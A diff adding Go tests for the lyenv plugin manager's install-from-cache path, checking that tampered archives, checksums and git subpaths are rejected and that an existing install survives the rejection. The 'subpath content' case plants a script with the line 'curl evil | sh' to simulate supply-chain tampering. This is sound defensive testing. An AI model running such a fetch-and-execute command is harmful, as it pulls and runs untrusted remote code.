@@ -0,0 +1,248 @@
+package plugin
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"lyenv/internal/env"
+	"lyenv/internal/store"
+)
+
+const toolManifest = "name: tool\nversion: 1.0.0\nexpose: [tool]\ncommands:\n  - name: hi\n    executor: shell\n    program: echo hi\n"
+
+// newTestEnv creates an environment with its own user config and store.
+func newTestEnv(t *testing.T) string {
+	t.Helper()
+	t.Setenv("LYENV_CONFIG_DIR", t.TempDir())
+	t.Setenv("LYENV_STORE_DIR", t.TempDir())
+	home := filepath.Join(t.TempDir(), "env")
+	if err := env.CmdCreate(home); err != nil {
+		t.Fatal(err)
+	}
+	return home
+}
+
+func writeTestFile(t *testing.T, p, body string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// writeTgz packs files under a top-level directory, like release tarballs.
+func writeTgz(t *testing.T, p string, files map[string]string) {
+	t.Helper()
+	f, err := os.Create(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	gz := gzip.NewWriter(f)
+	tw := tar.NewWriter(gz)
+	for name, body := range files {
+		hdr := &tar.Header{Name: "tool-1.0.0/" + name, Mode: 0o644, Size: int64(len(body))}
+		if err := tw.WriteHeader(hdr); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(body)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+const toolURL = "https://plugins.example/tool-1.0.0.tgz"
+
+// newFetchDir builds a portable cache like `lyenv plugin fetch` would: an
+// archive plugin "tool" and a monorepo plugin "mono".
+func newFetchDir(t *testing.T) (dir, sum string) {
+	t.Helper()
+	dir = t.TempDir()
+	tmp := filepath.Join(t.TempDir(), "tool.tgz")
+	writeTgz(t, tmp, map[string]string{"manifest.yaml": toolManifest})
+	sum, err := store.FileSHA256(tmp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(tmp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeTestFile(t, filepath.Join(dir, "archives", sum+".tgz"), string(data))
+
+	mono := filepath.Join(dir, "git", "mono")
+	writeTestFile(t, filepath.Join(mono, "manifest.yaml"), strings.ReplaceAll(strings.ReplaceAll(toolManifest, "tool", "mono"), "1.0.0", "2.0.0"))
+	tree, err := store.HashTree(mono)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	writeTestFile(t, filepath.Join(dir, "index.yaml"), `plugins:
+  tool:
+    versions:
+      "1.0.0":
+        source: `+toolURL+`
+        sha256: `+sum+`
+  mono:
+    repo: org/plugins
+    versions:
+      "2.0.0":
+        ref: v2
+        subpath: plugins/mono
+`)
+	writeTestFile(t, filepath.Join(dir, fetchManifestName), `format: 1
+index: index.yaml
+plugins:
+  - {name: tool, version: 1.0.0}
+  - {name: mono, version: 2.0.0}
+archives:
+  - url: `+toolURL+`
+    sha256: `+sum+`
+    file: archives/`+sum+`.tgz
+git:
+  - {repo: org/plugins, ref: v2, subpath: plugins/mono, dir: git/mono, tree_hash: `+tree+`}
+`)
+	return dir, sum
+}
+
+func TestInstallFromCache(t *testing.T) {
+	home := newTestEnv(t)
+	dir, sum := newFetchDir(t)
+
+	if err := PluginInstallFromCache(home, dir, "tool", "^1", "tool"); err != nil {
+		t.Fatal(err)
+	}
+	ip, err := GetByInstallName(home, "tool")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ip.Center != "tool" || ip.Constraint != "^1" || ip.Version != "1.0.0" || ip.Sha256 != sum || ip.Kind != "archive" || ip.URL != toolURL {
+		t.Errorf("registered %+v", ip)
+	}
+	if _, err := os.Stat(filepath.Join(home, "bin", "tool")); err != nil {
+		t.Errorf("shim missing: %v", err)
+	}
+
+	if err := PluginInstallFromCache(home, dir, "mono", "", ""); err != nil {
+		t.Fatal(err)
+	}
+	ip, err = GetByInstallName(home, "mono")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ip.Center != "mono" || ip.Version != "2.0.0" || ip.Kind != "git-subpath" || ip.Subpath != "plugins/mono" || ip.Ref != "v2" {
+		t.Errorf("registered %+v", ip)
+	}
+}
+
+func TestInstallFromCacheRejectsTampering(t *testing.T) {
+	cases := []struct {
+		name   string
+		plugin string
+		tamper func(t *testing.T, dir, sum string)
+		err    string
+	}{
+		{
+			name:   "archive content",
+			plugin: "tool",
+			tamper: func(t *testing.T, dir, sum string) {
+				writeTestFile(t, filepath.Join(dir, "archives", sum+".tgz"), "not the archive")
+			},
+			err: "sha256 mismatch",
+		},
+		{
+			name:   "manifest checksum differs from index",
+			plugin: "tool",
+			tamper: func(t *testing.T, dir, sum string) {
+				replaceIn(t, filepath.Join(dir, fetchManifestName), "    sha256: "+sum, "    sha256: "+strings.Repeat("0", 64))
+			},
+			err: "sha256 mismatch: index=",
+		},
+		{
+			name:   "manifest checksum removed",
+			plugin: "tool",
+			tamper: func(t *testing.T, dir, sum string) {
+				replaceIn(t, filepath.Join(dir, fetchManifestName), "    sha256: "+sum, "    sha256: \"\"")
+				replaceIn(t, filepath.Join(dir, "index.yaml"), "        sha256: "+sum, "")
+			},
+			err: "has no sha256",
+		},
+		{
+			name:   "archive not fetched",
+			plugin: "tool",
+			tamper: func(t *testing.T, dir, sum string) {
+				replaceIn(t, filepath.Join(dir, fetchManifestName), "  - url: "+toolURL, "  - url: https://elsewhere/x.tgz")
+			},
+			err: "is not in",
+		},
+		{
+			name:   "subpath content",
+			plugin: "mono",
+			tamper: func(t *testing.T, dir, sum string) {
+				writeTestFile(t, filepath.Join(dir, "git", "mono", "extra.sh"), "curl evil | sh\n")
+			},
+			err: "tree hash mismatch for git/mono",
+		},
+		{
+			name:   "unknown version",
+			plugin: "tool@9",
+			err:    "failed to resolve tool from plugin center",
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			home := newTestEnv(t)
+			dir, sum := newFetchDir(t)
+			// An existing install must survive a rejected reinstall.
+			if err := PluginInstallFromCache(home, dir, "tool", "", "tool"); err != nil {
+				t.Fatal(err)
+			}
+			if tc.tamper != nil {
+				tc.tamper(t, dir, sum)
+			}
+			spec := ParseFetchSpec(tc.plugin)
+			err := PluginInstallFromCache(home, dir, spec.Name, spec.Version, "tool")
+			if err == nil || !strings.Contains(err.Error(), tc.err) {
+				t.Fatalf("got %v, want %q", err, tc.err)
+			}
+			if _, err := os.Stat(filepath.Join(home, "plugins", "tool", "manifest.yaml")); err != nil {
+				t.Errorf("existing install damaged: %v", err)
+			}
+			if ip, err := GetByInstallName(home, "tool"); err != nil || ip.Center != "tool" {
+				t.Errorf("registry changed: %+v, %v", ip, err)
+			}
+		})
+	}
+}
+
+func TestInstallFromCacheNotAFetchDir(t *testing.T) {
+	home := newTestEnv(t)
+	err := PluginInstallFromCache(home, t.TempDir(), "tool", "", "")
+	if err == nil || !strings.Contains(err.Error(), "not a plugin fetch directory") {
+		t.Errorf("got %v", err)
+	}
+}
+
+func replaceIn(t *testing.T, p, old, new string) {
+	t.Helper()
+	data, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(data), old) {
+		t.Fatalf("%s does not contain %q", p, old)
+	}
+	writeTestFile(t, p, strings.Replace(string(data), old, new, 1))
+}